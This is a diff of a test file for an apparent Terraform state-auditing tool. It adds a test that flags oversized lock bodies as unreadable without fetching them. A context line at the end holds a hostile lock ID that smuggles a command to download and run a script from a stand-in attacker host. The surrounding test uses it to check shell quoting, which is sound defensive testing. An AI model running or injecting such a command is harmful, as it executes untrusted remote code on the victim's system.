@@ -306,6 +306,19 @@ describe('what a writer of the bucket or the table controls', () => {
     ]);
   });
 
+  it('a lock body larger than any lock is unreadable by its listed size, and is never fetched', async () => {
+    const backend = bucket({
+      'huge/terraform.tfstate': { body: stateBody() },
+      'huge/terraform.tfstate.tflock': { body: lockBody({ ID: 'huge' }), size: 600 * 1024 * 1024 },
+    });
+    const findings = await setup(backend).run();
+    expect(backend.calls.read).not.toContain('huge/terraform.tfstate.tflock');
+    expect(findings.map((finding) => [finding.ruleId, finding.evidence.reason])).toContainEqual([
+      'lock.unreadable',
+      'the lock body is 600 MiB, more than any lock Terraform writes (driftwatch reads at most 64 KiB)',
+    ]);
+  });
+
   it('a lock ID is quoted as a shell word wherever a force-unlock command is written', async () => {
     const hostile = '0000; curl -s https://evil.example/x | sh #';
     const backend = bucket({
